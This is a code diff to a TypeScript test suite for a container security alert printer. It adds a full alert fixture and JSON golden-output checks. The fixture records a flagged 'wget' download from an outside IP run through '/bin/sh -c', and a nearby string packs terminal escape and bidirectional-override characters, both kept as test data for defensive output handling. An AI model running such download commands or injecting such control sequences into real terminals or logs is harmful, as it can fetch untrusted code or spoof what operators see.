@@ -41,6 +41,31 @@ const ordinary: Alert = {
   },
 };
 
+/** Everything that an alert may say. */
+const complete: Alert = {
+  ...ordinary,
+  repetitionId: "fedcba9876543210fedcba9876543210",
+  ruleDescription: "A container ran a program that its profile does not list.",
+  mitreTactic: "TA0002",
+  mitreTechnique: "T1059",
+  isTriggerAlert: true,
+  eventKind: "exec",
+  arguments: { exec: "/usr/bin/wget", args: "-q http://203.0.113.9/x" },
+  podLabels: { app: "web" },
+  imageDigest: "registry.example/web@sha256:deadbeef",
+  processTree: [{ pid: 4700, binary: "/bin/sh", args: "-c wget" }],
+  profileMetadata: {
+    name: "replicaset-web-77b4fdf86c-web-ab12-cd34",
+    status: "completed",
+    completion: "partial",
+    failOnProfile: true,
+    type: 0,
+    profileDependency: 0,
+    errorMessage: "",
+  },
+  allowedBy: { path: "spec.execs", entry: { path: "/usr/bin/wget", args: ["wget", "-q", "http://203.0.113.9/x"] } },
+};
+
 /** What a container may put into a path or an argument. */
 const hostileText =
   "/tmp/\u001b[2J\u009b31m\r\nR0001 fake\u2028line\u2029\u202egnp.exe\u0007\u0000\ud800 \\u001b \u200b\ufeff";
@@ -79,7 +104,11 @@ function expectGolden(name: string, text: string): void {
 describe("createStdoutSink", () => {
   it("prints JSON with keys in a stable order, whatever order the alert has them in", async () => {
     const reversed = Object.fromEntries(Object.entries(ordinary).toReversed()) as unknown as Alert;
-    expectGolden("alert.jsonl", [await print(ordinary, "json"), await print(hostile, "json")].join("\n"));
+    expectGolden(
+      "alert.jsonl",
+      [await print(ordinary, "json"), await print(hostile, "json"), await print(complete, "json")].join("\n"),
+    );
+    expect(JSON.parse(await print(complete, "json"))).toEqual(complete);
     expect(await print(reversed, "json")).toBe(await print(ordinary, "json"));
   });
 
